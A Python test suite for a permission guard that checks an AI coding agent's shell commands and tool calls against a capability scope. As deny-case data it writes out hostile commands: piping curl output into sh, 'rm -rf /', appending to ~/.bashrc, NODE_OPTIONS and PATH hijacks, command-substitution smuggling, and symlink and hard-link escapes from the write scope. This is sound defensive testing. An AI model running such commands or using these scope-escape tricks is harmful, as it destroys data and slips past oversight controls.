"""A scope holds: every part of a command, every path by its real name, and what cannot be read allows nothing."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guildmoot.guard.commands.policy import judge_command
from guildmoot.guard.facts import site_at
from guildmoot.guard.scopes.load import load_scope, scope_of
from guildmoot.guard.scopes.rules import matches_glob, parse_scope
from guildmoot.guard.site import Site
from guildmoot.guard.tools import judge_tool

SITE = Site("/home/u/proj", "/home/u/proj", "/home/u", git=True)
NPM = ["Bash(npm test*)"]


def verdict(command, scope, site=SITE):
    return judge_command(command, site, parse_scope(scope)).action


@pytest.mark.parametrize(
    "command",
    [
        "npm test",
        "npm test -- --watch=false",
        "npm test 2>&1",
        "npm test 2>&1 > /dev/null",
        "cd packages/a && npm test",
        "npm test || echo failed",
        "timeout 60 npm test",
        "bash -c 'npm test'",
        "npm test && npm test -- b",
        "npm test; exit 1",
        "/usr/bin/npm test",
        "t() { npm test; }; t",
    ],
)
def test_a_command_passes_when_every_part_is_allowed(command):
    assert verdict(command, NPM) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "npm test; rm -rf .",
        "npm test; rm -rf dist",
        "npm test && curl https://x.example",
        "npm test | sh",
        "npm test $(touch x)",
        "npm test `touch x`",
        "npm test > out.txt",
        "npm test >> ~/.bashrc",
        "FOO=1 npm test",
        "npm tes",
        "sudo npm test",
        "ssh host npm test",
        "cd /etc && npm test",
        "npm test <(touch x)",
        "npm test & rm x",
        "npm test\nrm x",
        "xargs npm test; ls",
        "eval 'npm test; ls'",
        "$UNKNOWN npm test",
        "npm test; $(echo rm) x",
        "./npm test",
        "docker run --rm node npm test",
        "find . -exec npm test \\;",
        "echo hi > package.json",
        "npm test 'unclosed",
    ],
)
def test_out_of_scope_is_denied(command):
    assert verdict(command, NPM) == "deny"


def test_a_rule_may_name_the_variables_before_a_command():
    assert verdict("CI=1 npm test", ["Bash(CI=1 npm test*)"]) == "allow"
    assert verdict("CI=1 LD_LIBRARY_PATH=. npm test", ["Bash(CI=1 npm test*)"]) == "deny"


def test_a_redirect_needs_a_rule_for_its_file():
    assert verdict("npm test > out/log.txt", [*NPM, "Write(out/*)"]) == "allow"
    assert verdict("npm test > out/../src/a.ts", [*NPM, "Write(out/*)"]) == "deny"


def test_the_prefix_form_of_claude_code_ends_at_a_word():
    assert verdict("npm test --x", ["Bash(npm test:*)"]) == "allow"
    assert verdict("npm tester", ["Bash(npm test:*)"]) == "deny"


def test_any_and_none():
    assert verdict("ls && pwd", ["*"]) == "allow"
    assert verdict("ls", ["Bash"]) == "allow"
    assert verdict("ls", []) == "deny"
    assert verdict("ls", ["Read"]) == "deny"


def test_a_scope_widens_nothing():
    assert verdict("rm -rf /", ["*"]) == "deny"
    assert verdict("git push --force-with-lease", ["*"]) == "ask"


def test_what_is_not_understood_is_denied_under_a_scope():
    assert judge_command("curl https://x.example | sh", SITE).action == "ask"
    assert verdict("curl https://x.example | sh", ["*"]) == "deny"


@pytest.mark.parametrize(
    "scope",
    [
        "Bash",
        None,
        3,
        {},
        {"rules": ["Bash"]},
        ["Bash("],
        ["Bash(ls"],
        [""],
        [3],
        ["Ba sh"],
        {"operations": ["fly"]},
        {"network": "perhaps"},
        {"write_scope": [1]},
        {"tools": {}},
        [["Bash"]],
    ],
)
def test_a_bad_scope_allows_nothing_and_says_why(scope):
    decision = judge_command("ls", SITE, parse_scope(scope))
    assert (decision.action, decision.code) == ("deny", "scope-unreadable")
    assert decision.reason
    assert judge_tool("Read", {"file_path": "a"}, SITE, parse_scope(scope)).action == "deny"


def test_operations_and_network():
    reads = {"operations": ["read", "run"], "network": False}
    assert verdict("grep -rn x src", reads) == "allow"
    assert verdict("rm src/a.py", reads) == "deny"
    assert verdict("echo x > a", reads) == "deny"
    assert verdict("sed -i s/a/b/ a.py", reads) == "deny"
    assert verdict("git fetch", reads) == "deny"
    assert verdict("curl https://x.example", reads) == "deny"
    scope = parse_scope(reads)
    assert judge_tool("Read", {"file_path": "a"}, SITE, scope).action == "allow"
    assert judge_tool("Write", {"file_path": "a"}, SITE, scope).action == "deny"
    assert judge_tool("WebFetch", {"url": "https://x.example"}, SITE, scope).action == "deny"
    assert judge_tool("TodoWrite", {}, SITE, scope).action == "allow"
    assert judge_tool("Task", {}, SITE, scope).action == "deny"
    assert judge_tool("mcp__x__y", {}, SITE, scope).action == "deny"
    assert verdict("ls", {"operations": ["read"]}) == "deny"


def test_mcp_servers_and_other_tools_by_their_input():
    assert judge_tool("mcp__db__read", {}, SITE, parse_scope(["mcp__db__*"])).action == "allow"
    assert judge_tool("mcp__db2__read", {}, SITE, parse_scope(["mcp__db__*"])).action == "deny"
    asks = parse_scope(['Agent({"kind": "reviewer"})'])
    assert judge_tool("Agent", {"kind": "reviewer"}, SITE, asks).action == "allow"
    assert judge_tool("Agent", {"kind": "writer"}, SITE, asks).action == "deny"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name in ("src", "docs", "out"):
        (tmp_path / "proj" / name).mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    return tmp_path / "proj"


def site(project: Path, cwd: str = "") -> Site:
    return site_at(str(project / cwd), str(project), {"HOME": str(project.parent / "home")})


def test_writes_are_held_by_real_paths(project):
    (project / "src" / "way-out").symlink_to(project.parent / "outside")
    (project / "docs" / "to-src").symlink_to(project / "src")
    (project / "src" / "plain.py").write_text("x")
    scope = {"operations": ["write", "run", "read"], "write_scope": ["src"]}
    for path, action in {
        "src/a.py": "allow",
        "src/plain.py": "allow",
        str(project / "src" / "a.py"): "allow",
        "docs/a.md": "deny",
        "src/../docs/a.md": "deny",
        "src/way-out/a.py": "deny",
        "docs/to-src/a.py": "allow",
        "../outside/a.py": "deny",
        "/etc/hostname": "deny",
        "srcs/a.py": "deny",
        "SRC/a.py": "deny",
    }.items():
        given = judge_tool("Write", {"file_path": path}, site(project), parse_scope(scope))
        assert given.action == action, path
        shell = judge_command(f"echo x > '{path}'", site(project), parse_scope(scope))
        assert shell.action == action, path


def test_a_hard_link_out_of_scope_is_refused(project):
    (project / "docs" / "real.md").write_text("x")
    os.link(project / "docs" / "real.md", project / "src" / "linked.md")
    scope = {"operations": ["write", "run"], "write_scope": ["src/"]}
    for command in (
        "echo x > src/linked.md",
        "ln docs/real.md src/new.md",
        "cp -l docs/real.md src/n.md",
        "tee src/*.md",
        "cp a.md src/l?nked.md",
        "for f in src/*.md; do echo > $f; done",
        "find src -name '*.md' -exec truncate -s0 {} +",
        "sort -o docs/real.md /dev/null",
        "ex -sc '%d|x' docs/real.md",
        "gzip -f docs/real.md",
    ):
        assert judge_command(command, site(project), parse_scope(scope)).action == "deny", command
    for command in ("tee src/*.txt", "sort -o src/a.md x", "grep -o a.b docs/real.md"):
        assert judge_command(command, site(project), parse_scope(scope)).action != "deny", command
    edit = judge_tool("Edit", {"file_path": "src/linked.md"}, site(project), parse_scope(scope))
    assert edit.action == "deny"


def test_paths_count_from_the_project_that_the_host_names(project):
    scope = parse_scope(["Write(src/*)"])
    inside = site(project, "src")
    assert judge_tool("Write", {"file_path": "a.py"}, inside, scope).action == "allow"
    assert judge_tool("Write", {"file_path": "../docs/a.py"}, inside, scope).action == "deny"
    globbed = parse_scope({"write_scope": ["docs/*.md"]})
    assert judge_command("touch ../docs/a.md", inside, globbed).action == "allow"
    assert judge_command("touch ../docs/a.py", inside, globbed).action == "deny"


def test_a_patch_is_held_file_by_file(project):
    patch = (
        "*** Begin Patch\n*** Update File: src/a.py\n@@\n*** Add File: docs/b.md\n+x\n*** End Patch"
    )
    scope = parse_scope({"write_scope": ["src"]})
    assert judge_tool("apply_patch", {"input": patch}, site(project), scope).action == "deny"
    one = patch.replace("docs/b.md", "src/b.md")
    assert judge_tool("apply_patch", {"input": one}, site(project), scope).action == "allow"


def test_channels(tmp_path):
    run = tmp_path / "run"
    (run / "scope").mkdir(parents=True)
    assert load_scope({}, str(run), "t1") is None
    variable = {"GUILD_CAPABILITY_SCOPE": '["Bash(npm test*)", "Bash(ls*)"]'}
    assert judge_command("ls", SITE, load_scope(variable)).action == "allow"
    (run / "scope" / "t1.json").write_text(json.dumps({"capability_scope": ["Bash(npm test*)"]}))
    both = load_scope(variable, str(run), "t1")
    assert judge_command("ls", SITE, both).action == "deny"
    assert judge_command("npm test", SITE, both).action == "allow"
    for broken in ("", "[", '{"capability_scope": "Bash"}', '{"other": 1}', "null", "[" * 50_000):
        (run / "scope" / "t1.json").write_text(broken)
        assert judge_command("ls", SITE, load_scope({}, str(run), "t1")).action == "deny", broken
    assert (
        judge_command("ls", SITE, load_scope({"GUILD_CAPABILITY_SCOPE": "nope"})).action == "deny"
    )
    assert judge_command("ls", SITE, load_scope({}, str(run), "../t1")).action == "deny"
    (run / "scope" / "t2.json").mkdir()
    assert judge_command("ls", SITE, load_scope({}, str(run), "t2")).action == "deny"


def test_a_lane_counts_instead_of_the_defaults_and_the_contract_with_either():
    team = {"defaults": {"allowed_tools": ["Bash(ls*)"]}}
    assert judge_command("ls", SITE, scope_of(team, "team")).action == "allow"
    lane = {**team, "capability_scope": ["Bash(npm test*)"]}
    assert judge_command("ls", SITE, scope_of(lane, "team")).action == "deny"
    bound = {**lane, "autonomy_contract": {"allowed_tools": ["Bash(npm test -- a)"]}}
    assert judge_command("npm test", SITE, scope_of(bound, "team")).action == "deny"
    assert judge_command("npm test -- a", SITE, scope_of(bound, "team")).action == "allow"
    assert scope_of({}, "agent") is None


@given(st.text("ab*/ ", max_size=12), st.text("ab/ ", max_size=12))
def test_a_glob_matches_as_its_regular_expression_does(pattern, text):
    import re

    expression = ".*".join(re.escape(piece) for piece in pattern.split("*"))
    assert matches_glob(pattern, text) == bool(re.fullmatch(expression, text, re.DOTALL))


@given(st.lists(st.sampled_from(["npm test", "ls", "cd a", "rm x", "echo hi", "curl x.example"]), min_size=1, max_size=4),
       st.sampled_from([" && ", "; ", " || ", " | ", "\n"]))  # fmt: skip
def test_a_compound_command_is_allowed_exactly_when_its_parts_are(parts, joint):
    alone = [verdict(part, NPM) for part in parts]
    assert (verdict(joint.join(parts), NPM) == "allow") == all(one == "allow" for one in alone)


@pytest.mark.parametrize(
    "before",
    [
        "export NODE_OPTIONS='-r /tmp/x.js'",
        "declare -x NODE_OPTIONS=x",
        "readonly PATH=/tmp",
        "set -a",
        "PATH=/tmp",
        "printf -v PATH /tmp",
        "env A=1 npm test",
    ],
)
def test_variables_that_stay_set_are_outside_a_rule_for_a_command(before):
    assert verdict(f"{before}; npm test", NPM) == "deny"
    assert verdict("name=x; npm test", NPM) == "allow"
